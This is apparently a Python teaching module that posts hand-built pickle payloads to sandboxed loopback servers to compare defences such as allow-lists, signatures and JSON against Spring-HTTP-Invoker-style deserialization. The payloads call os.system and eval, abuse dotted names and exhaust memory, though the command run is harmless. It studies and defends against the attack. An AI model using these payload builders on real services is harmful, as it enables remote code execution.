"""Pickles over HTTP, as Spring's HTTP Invoker sends Java's: who can post one owns the server; and what helps.

Every attack is made on a server in a process of its own, with bounds on its memory and time, in a folder of its own.
The command that an attack runs writes an empty file, `marker`, into that folder.
"""

import contextlib
import hashlib
import hmac
import http.client
import importlib.util
import json
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from companion.errors import CompanionError

HERE = Path(__file__).parent
KEY = "a key that both sides know"
SECONDS = 30.0
MEMORY = 512 << 20  # bytes of address space that a server may have
CURES = ("none", "black list", "white list", "exact pairs", "signature", "JSON")
COMMAND = "touch marker"
AN_HONEST_CALL, AGAIN, KEY_HOLDER = "an honest call", "the same bytes again", "os.system, signed"
OUTCOMES = {"answers": "A", "refused": "R", "replayed": "2x", "takes the memory": "M", "runs": "RUNS"}
"""What may come of a posted body, from good to bad, with the sign of each in a figure."""


def order(module: str, name: str, *arguments: str | int, protocol: int = 0) -> bytes:
    """Write a pickle that says: find this name in this module, and call it with these arguments.

    Parameters
    ----------
    module, name : str
        What to look up.
    *arguments : str or int
        What to call it with.
    protocol : int
        Which protocol the pickle claims: 4 lets a name have dots.
    """
    claimed = bytes([0x80, protocol]) if protocol else b""
    given = "".join(f"I{value}\n" if isinstance(value, int) else f"V{value}\n" for value in arguments)
    return claimed + f"c{module}\n{name}\n({given}tR.".encode()


HONEST = order("__main__", "Invocation", "pay", 10)
ATTACKS: dict[str, bytes] = {
    "os.system": order("os", "system", COMMAND),
    "Python 2's name of eval": order("__builtin__", "eval", "open('marker','w')", protocol=2),
    "a name with a dot": order("__main__", "os.system", COMMAND, protocol=4),
    "builtins.eval": order("builtins", "eval", "open('marker','w')"),
    "memo index 2^26": b"\x80\x04N" + b"r" + (2**26).to_bytes(4, "little") + b".",
}
"""Bodies that want more than a call."""


@dataclass(frozen=True)
class Attempt:
    """One body posted to one server.

    Parameters
    ----------
    attack, cure : str
        What was posted, and how the server protects itself.
    outcome : str
        One of `OUTCOMES`.
    size : int
        Bytes of the body.
    """

    attack: str
    cure: str
    outcome: str
    size: int


@dataclass(frozen=True)
class Target:
    """A server that runs.

    Parameters
    ----------
    port : int
        Where it listens, on loopback.
    folder : pathlib.Path
        Its own folder.
    """

    port: int
    folder: Path

    def post(self, body: bytes, signature: str = "") -> tuple[int, str]:
        """Post a body; return the status and the text of the answer."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=SECONDS)
        with contextlib.closing(connection):
            connection.request("POST", "/", body, {"X-Signature": signature})
            answer = connection.getresponse()
            return answer.status, answer.read(1000).decode(errors="replace")

    def attack(self, body: bytes, signature: str = "") -> str:
        """Post a body and say what came of it: one of `OUTCOMES`, but for "replayed"."""
        marker = self.folder / "marker"
        marker.unlink(missing_ok=True)
        status, _ = self.post(body, signature)
        if marker.exists():
            return "runs"
        return {200: "answers", 507: "takes the memory"}.get(status, "refused")


def bounded() -> bool:
    """Say whether this system lets a process be bounded; without it nothing is attacked here."""
    return importlib.util.find_spec("resource") is not None


@contextlib.contextmanager
def target(cure: str = "none") -> Iterator[Target]:
    """Start a server that unpickles what is posted; it is gone, and its folder, when the context ends.

    Raises
    ------
    CompanionError
        Where processes cannot be bounded, as on Windows.
    """
    if not bounded():
        raise CompanionError("this system does not bound a process; nothing is unpickled here that may be hostile")
    command = [sys.executable, "-I", str(HERE / "invoker_child.py"), cure, KEY, str(MEMORY)]
    with (
        tempfile.TemporaryDirectory() as folder,
        subprocess.Popen(
            command, cwd=folder, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL
        ) as process,
    ):
        assert process.stdin and process.stdout
        try:
            yield Target(int(process.stdout.readline(20)), Path(folder))
        finally:
            process.stdin.close()
            try:
                process.wait(timeout=5)
            except subprocess.TimeoutExpired:
                process.kill()


def attempts(cure: str) -> list[Attempt]:
    """Post everything to a server with one cure, the honest call first."""

    def signed(body: bytes) -> str:
        return hmac.digest(KEY.encode(), body, hashlib.sha256).hex() if cure == "signature" else ""

    honest = b'{"method": "pay", "amount": 10}' if cure == "JSON" else HONEST
    system = ATTACKS["os.system"]
    with target(cure) as server:
        found = {AN_HONEST_CALL: (server.attack(honest, signed(honest)), honest)}
        found |= {name: (server.attack(body), body) for name, body in ATTACKS.items()}
        if cure == "JSON":  # what an attacker would say in JSON
            said = json.dumps({"method": "os.system", "amount": COMMAND}).encode()
            found["os.system"] = (server.attack(said), said)
        before = int(server.post(honest, signed(honest))[1])
        after = int(server.post(honest, signed(honest))[1])
        found[AGAIN] = ("replayed" if after > before else "refused", honest)
        found[KEY_HOLDER] = (server.attack(system, signed(system)), system)
    return [Attempt(attack, cure, outcome, len(body)) for attack, (outcome, body) in found.items()]


def posted(body: bytes) -> str:
    """Post a body to a server without any cure and say what came of it; from the recording where none may run.

    Raises
    ------
    KeyError
        For a body that was not recorded, where it may not run.
    """
    if bounded():
        with target() as server:
            return server.attack(body)
    names = {attack: name for name, attack in (ATTACKS | {AN_HONEST_CALL: HONEST}).items()}
    (outcome,) = (row.outcome for row in table() if (row.attack, row.cure) == (names[body], "none"))
    return f"{outcome} (recorded: this system does not bound a process)"


def table(live: bool | None = None) -> list[Attempt]:
    """Try every body on every cure; from the recording where processes cannot be bounded."""
    if not bounded() if live is None else not live:
        from companion.calls.wire.objects.corba import recording

        rows: list[dict[str, Any]] = recording()["attempts"]
        return [Attempt(**row) for row in rows]
    return [attempt for cure in CURES for attempt in attempts(cure)]
